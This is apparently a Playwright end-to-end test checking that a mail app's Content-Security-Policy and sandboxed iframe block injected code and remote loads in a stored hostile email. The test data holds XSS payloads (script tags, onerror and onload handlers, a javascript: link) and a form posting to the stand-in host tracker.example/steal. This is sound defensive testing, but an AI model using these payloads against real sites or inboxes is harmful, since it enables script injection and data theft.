import type { Browser, Page, Request } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ADMIN_EMAIL, ADMIN_PASSWORD } from '../helpers/test-app.js';
import { chromiumAvailable, ensureWebBuilt, launchBrowser, login, newPage, screenshot, startMailroom, startSink, watchContentSecurity, type Live, type Sink } from './harness.js';

/**
 * The Content-Security-Policy in Chromium (docs/security.md, "Content Security Policy"):
 * normal use of every page, /docs included, reports no violation; code slipped into the page
 * does not run; and a stored message carrying <script>, onerror=, javascript: links and remote
 * images runs nothing and requests nothing until the admin chooses "Load remote content".
 */
const run = chromiumAvailable();
const TRACKER = 'tracker.example';
/** A 1×1 transparent PNG: what the "remote" image server answers once it is allowed. */
const PIXEL = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');

const BENIGN = `<div id="benign" style="font-family: Georgia, serif; color: #223">
  <style>.hero { padding: 12px; background: #eef; }</style>
  <p class="hero">Your report is ready.</p>
  <img id="logo" alt="logo" src="data:image/png;base64,${PIXEL.toString('base64')}" width="16" height="16">
  <table><tr><td style="border: 1px solid #ccc">cell</td></tr></table>
</div>`;

/** Everything a hostile sender might try; each would leave a trace if it ran or loaded. */
const HOSTILE = `<p id="hello">Invoice attached</p>
<script>document.body.setAttribute('data-ran', 'script'); parent.postMessage('script', '*'); fetch('/pwned?script');</script>
<img id="broken" src="x" onerror="document.body.setAttribute('data-ran', 'onerror'); parent.postMessage('onerror', '*'); fetch('/pwned?onerror')">
<svg onload="parent.postMessage('svg', '*')"><circle r="1"/></svg>
<a id="js-link" href="javascript:parent.postMessage('javascript', '*'); fetch('/pwned?javascript')">Open invoice</a>
<img id="pixel" alt="pixel" src="http://${TRACKER}/pixel.png?m=1" width="1" height="1">
<div style="background: url(http://${TRACKER}/bg.png)">background</div>
<link rel="stylesheet" href="http://${TRACKER}/style.css">
<object data="http://${TRACKER}/object.swf"></object>
<form action="http://${TRACKER}/steal" method="post"><input name="x" value="y"><button id="submit">Pay now</button></form>`;

describe.runIf(run)('Content-Security-Policy in Chromium', { timeout: 240_000 }, () => {
  let live: Live;
  let sink: Sink;
  let browser: Browser;
  let page: Page;
  let errors: string[];
  let violations: string[];
  const ids: Record<string, string> = {};

  const api = async (method: string, url: string, payload?: unknown) => {
    const res = await live.t.request({ method: method as 'GET', url: `/api/v1${url}`, payload: payload as Record<string, unknown> });
    expect(res.statusCode, `${method} ${url}: ${res.body}`).toBeLessThan(300);
    return res.statusCode === 204 ? {} : res.json();
  };
  const sentMessage = async (payload: Record<string, unknown>) => {
    const { id } = await api('POST', '/messages', { to: ['ops@example.net'], ...payload });
    for (let i = 0; i < 60 && (await api('GET', `/messages/${id}`)).status !== 'sent'; i++) await new Promise((r) => setTimeout(r, 250));
    return id as string;
  };

  beforeAll(async () => {
    await ensureWebBuilt();
    sink = await startSink();
    live = await startMailroom('sqlite', { env: { MAILROOM_ALLOW_PRIVATE_HOSTS: '127.0.0.1' } });
    // Something on every page: a server, an account as default sender, a DKIM key, a user, a key, mail.
    ids.server = (await api('POST', '/servers', { name: 'Local relay', smtp: { host: '127.0.0.1', port: sink.port, security: 'none' } })).id;
    ids.account = (await api('POST', '/accounts', { serverId: ids.server, address: 'robot@example.com', fromName: 'Robot' })).id;
    ids.direct = (await api('POST', '/servers', { name: 'Direct', smtp: { mode: 'direct' } })).id;
    await api('PATCH', '/settings', { defaultAccountId: ids.account });
    await api('PUT', '/dkim/example.com', { selector: 'mr1', keyBits: 1024 });
    await api('POST', '/users', { email: 'viewer@example.com', password: 'viewer-password-1', role: 'viewer' });
    await api('POST', '/api-keys', { name: 'billing-app', scopes: ['send'] });
    ids.webhook = (await api('POST', '/webhooks', { url: 'http://127.0.0.1:9/hooks/mailroom', events: ['message.sent'] })).id;
    ids.event = (await api('POST', '/events', { type: 'csp.check', data: { note: 'an event to show' } })).id;
    ids.benign = await sentMessage({ subject: 'Monthly report', html: BENIGN, text: 'Your report is ready.' });
    ids.hostile = await sentMessage({ subject: 'Invoice', html: HOSTILE, text: 'Invoice attached' });
    browser = await launchBrowser();
    ({ page, errors } = await newPage(browser, live.baseUrl));
    violations = await watchContentSecurity(page);
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await live?.close();
    await sink?.close();
  });

  it('sends the strict policy with the UI and reports no violation on any page, /docs included', async () => {
    const first = await page.goto('/');
    expect(first?.headers()['content-security-policy']).toContain("script-src 'self'");
    await page.getByRole('button', { name: 'Sign in' }).waitFor();
    await login(page, ADMIN_EMAIL, ADMIN_PASSWORD);
    const pages = [
      '/messages',
      `/messages/${ids.benign}`,
      '/servers',
      `/servers/${ids.server}`,
      `/servers/${ids.direct}`,
      '/servers/new',
      '/accounts',
      `/accounts/${ids.account}`,
      '/routing',
      '/domains',
      '/settings',
      '/setup',
      '/audit',
      '/users',
      '/api-keys',
      '/profile',
      '/templates',
      '/templates/password_reset',
      '/templates/layouts/default',
      '/webhooks',
      `/webhooks/${ids.webhook}`,
      '/rules',
      '/rules/new',
      '/events',
      `/events/${ids.event}`,
      '/contact-auto-reply',
      '/reports',
      '/smtp-relay',
      '/secrets',
      '/suppressions',
      '/no-such-page',
    ];
    // Swagger UI under its own policy, on a page of its own, watched as the first one is: the
    // longest look (it renders the whole document), taken while the other pages are visited.
    const docsPage = await page.context().newPage();
    docsPage.setDefaultTimeout(15_000);
    docsPage.on('pageerror', (err) => errors.push(err.message));
    const docsViolations = await watchContentSecurity(docsPage);
    const docsChecked = (async () => {
      const docs = await docsPage.goto('/docs/');
      expect(docs?.headers()['content-security-policy']).toContain("script-src 'self'");
      // Swagger UI renders the whole document (every route with its codes) before the first block: give it time on a busy machine.
      await docsPage.locator('.swagger-ui .opblock').first().waitFor({ timeout: 90_000 });
      await docsPage.locator('.swagger-ui .opblock-summary').first().click({ timeout: 60_000 });
      await docsPage.waitForLoadState('networkidle');
      expect(docsViolations).toEqual([]);
    })();
    // Settled here too (awaited below): a failure is reported there, not as an unhandled rejection.
    docsChecked.catch(() => undefined);
    // Three pages of the signed-in context visit them, each watched as the first one is: the
    // visits stand alone (nothing is changed), and each waits for its own idle network.
    const visitors = [{ page, violations }];
    for (let i = 1; i < 3; i++) {
      const extra = await page.context().newPage();
      extra.setDefaultTimeout(15_000);
      extra.on('pageerror', (err) => errors.push(err.message));
      visitors.push({ page: extra, violations: await watchContentSecurity(extra) });
    }
    const queue = [...pages];
    await Promise.all(
      visitors.map(async (v) => {
        for (let path = queue.shift(); path; path = queue.shift()) {
          const res = await v.page.goto(path);
          expect(res?.headers()['content-security-policy'], path).toContain("default-src 'self'");
          await v.page.locator('main#main').waitFor();
          await v.page.waitForLoadState('networkidle');
          expect(v.violations, path).toEqual([]);
        }
      }),
    );
    for (const v of visitors.slice(1)) await v.page.close();
    // The benign HTML part renders in full: inline styles and data: images are allowed.
    await page.goto(`/messages/${ids.benign}`);
    const frame = page.frameLocator('iframe[title="HTML part"]');
    await frame.locator('#benign').waitFor();
    expect(await frame.locator('#logo').evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(1);
    expect(await page.getByTestId('remote-content').count()).toBe(0);
    await page.getByRole('tab', { name: /Headers/ }).click();
    await page.getByRole('tab', { name: 'Text' }).click();
    // At phone width, with the menu.
    await page.setViewportSize({ width: 390, height: 844 });
    await page.getByRole('button', { name: 'Menu' }).click();
    await page.getByRole('link', { name: 'Accounts' }).click();
    await page.setViewportSize({ width: 1366, height: 900 });
    await docsChecked;
    await docsPage.close();
    expect(violations).toEqual([]);
    expect(errors).toEqual([]);
  });

  it('does not run code slipped into the page: no inline script, no inline handler, no eval', async () => {
    await page.goto('/messages');
    await page.locator('main#main').waitFor();
    const outcome = await page.evaluate(async () => {
      const w = window as unknown as Record<string, unknown>;
      // Each attempt is refused one way or another: Trusted Types throw at the sink, script-src blocks the run.
      const attempt = (fn: () => void) => {
        try {
          fn();
          return 'accepted';
        } catch {
          return 'refused';
        }
      };
      const handler = attempt(() => {
        const img = document.createElement('img');
        img.setAttribute('onerror', 'window.__ranHandler = true');
        img.src = 'data:,not-an-image';
        document.body.append(img);
      });
      const script = attempt(() => {
        const s = document.createElement('script');
        s.append(document.createTextNode('window.__ranScript = true'));
        document.body.append(s);
      });
      const markup = attempt(() => document.body.insertAdjacentHTML('beforeend', '<img src="data:,x" onerror="window.__ranMarkup = true">'));
      // eval from the page's own code (DevTools lets the code of page.evaluate itself eval).
      let evaluated = 'not tried';
      setTimeout(() => (evaluated = attempt(() => (0, eval)('window.__ranEval = true'))), 0);
      await new Promise((r) => setTimeout(r, 300));
      return { handler, script, markup, evaluated, ran: ['__ranHandler', '__ranScript', '__ranMarkup', '__ranEval'].filter((k) => w[k] === true) };
    });
    // Nothing ran; whatever was not refused outright was blocked when it would have run.
    expect(outcome.ran).toEqual([]);
    expect(outcome.evaluated).toBe('refused');
    // Each refusal was reported: the policy, not luck, stopped them.
    expect(violations.length).toBeGreaterThanOrEqual(3);
    violations.length = 0;
  });

  it('runs nothing of a hostile message and requests no remote content until the admin allows it', async () => {
    // What reached the network: the route handlers see exactly the requests the browser lets out.
    // (Playwright also reports a load the policy refused as a "request" that failed with "csp".)
    const left: string[] = [];
    const refused: string[] = [];
    const requests: string[] = [];
    const onRequest = (r: Request) => void requests.push(r.url());
    const onFailed = (r: Request) => void (r.failure()?.errorText === 'csp' && refused.push(r.url()));
    page.on('request', onRequest);
    page.on('requestfailed', onFailed);
    const messages: string[] = [];
    await page.exposeBinding('__mailroomFrameMessage', (_s, data: string) => void messages.push(data));
    await page.addInitScript(() => {
      window.addEventListener('message', (e) => (window as unknown as { __mailroomFrameMessage(d: string): void }).__mailroomFrameMessage(String(e.data)));
    });
    // The stand-in for the tracker: only reachable once the policy lets the request out.
    await page.route(`http://${TRACKER}/**`, (route) => {
      const url = route.request().url();
      left.push(url);
      return route.fulfill({ status: 200, contentType: url.endsWith('.css') ? 'text/css' : 'image/png', body: url.endsWith('.css') ? 'p { color: red }' : PIXEL });
    });
    try {
      await page.goto(`/messages/${ids.hostile}`);
      const frameEl = page.locator('iframe[title="HTML part"]');
      expect(await frameEl.getAttribute('sandbox')).toBe('');
      const frame = page.frameLocator('iframe[title="HTML part"]');
      await frame.locator('#hello').waitFor();
      await page.getByTestId('remote-content').getByRole('button', { name: 'Load remote content' }).waitFor();
      await page.waitForLoadState('networkidle');
      // Clicking the javascript: link and the form's button does nothing either.
      await frame.locator('#js-link').click();
      await frame.locator('#submit').click();
      await page.waitForTimeout(500);
      await screenshot(page, 'csp-remote-blocked');

      const tracker = () => left.filter((u) => new URL(u).hostname === TRACKER);
      expect(tracker()).toEqual([]);
      // Every load the message asked for was refused by the frame's policy before it left.
      expect(refused.filter((u) => u.includes('/pixel.png')).length).toBeGreaterThan(0);
      expect(requests.filter((u) => new URL(u).hostname === TRACKER).every((u) => refused.includes(u))).toBe(true);
      expect(requests.filter((u) => u.includes('/pwned'))).toEqual([]);
      expect(messages).toEqual([]);
      expect(await frame.locator('body').getAttribute('data-ran')).toBeNull();
      expect(await frame.locator('#pixel').evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(0);
      // The page's own title (the message's subject): the message's script did not rename it.
      expect(await page.title()).toBe('Invoice · Mailroom');
      // The frame's own policy refused what the message asked for (reported in the console).
      expect(violations.some((v) => v.includes(TRACKER))).toBe(true);

      await page.getByRole('button', { name: 'Load remote content' }).click();
      await frame.locator('#hello').waitFor();
      await expect.poll(() => tracker().some((u) => u.includes('/pixel.png'))).toBe(true);
      await expect.poll(() => frame.locator('#pixel').evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(1);
      expect(tracker().some((u) => u.includes('/bg.png'))).toBe(true);
      await page.getByText('Remote content is shown').waitFor();
      await screenshot(page, 'csp-remote-loaded');
      // Remote images, not remote code: still no script, no plugin, no form post.
      expect(tracker().filter((u) => /object\.swf|steal/.test(u))).toEqual([]);
      expect(requests.filter((u) => u.includes('/pwned'))).toEqual([]);
      expect(messages).toEqual([]);
      expect(await frame.locator('body').getAttribute('data-ran')).toBeNull();

      await page.getByRole('button', { name: 'Block remote content' }).click();
      await page.getByRole('button', { name: 'Load remote content' }).waitFor();
      expect(errors).toEqual([]);
    } finally {
      page.off('request', onRequest);
      page.off('requestfailed', onFailed);
    }
  });
});
